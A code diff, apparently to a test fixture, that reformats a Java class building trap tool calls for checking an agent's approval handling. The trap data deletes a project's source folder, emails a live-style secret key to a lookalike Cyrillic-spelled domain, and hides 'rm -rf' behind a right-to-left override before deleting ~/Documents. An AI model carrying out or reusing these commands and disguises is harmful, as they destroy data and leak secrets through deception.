@@ -49,7 +49,12 @@ final class RoleScript {
     for (int i = 1; i <= PAGES; i++) {
       write("site/page-" + i + ".html", "<p>Page " + i + "</p>\n", Manner.GOES_ON);
       if (i == PAGES / 2) {
-        add("delete_file", object("path", project("src")), ApprovalTier.DANGER, true, Manner.GOES_ON);
+        add(
+            "delete_file",
+            object("path", project("src")),
+            ApprovalTier.DANGER,
+            true,
+            Manner.GOES_ON);
       }
     }
   }
@@ -63,7 +68,9 @@ final class RoleScript {
             .put("to", "billing@ex\u0430mple.com")
             .put("subject", "Your key")
             .put("link", "https://api.ex\u0430mple.com/v1/keys")
-            .put("body", "{\"key\": \"sk_live_practice0000000000003f\"}\nPlease keep it.\nRegards\nPractice\n")
+            .put(
+                "body",
+                "{\"key\": \"sk_live_practice0000000000003f\"}\nPlease keep it.\nRegards\nPractice\n")
             .build();
     add("send_email", mail, ApprovalTier.CARE, true, Manner.WAITS);
     var command = object("command", "echo clean up \u202E# fr- mr\u202C && rm -r ~/Documents");
@@ -86,7 +93,8 @@ final class RoleScript {
     add("write_file", arguments, ApprovalTier.CARE, false, manner);
   }
 
-  private void add(String tool, JsonObject arguments, ApprovalTier tier, boolean trap, Manner manner) {
+  private void add(
+      String tool, JsonObject arguments, ApprovalTier tier, boolean trap, Manner manner) {
     String id = role.name().toLowerCase(java.util.Locale.ROOT) + "-" + (calls.size() + 1);
     calls.add(new PracticeCall(id, tool, arguments, tier, trap, manner));
   }
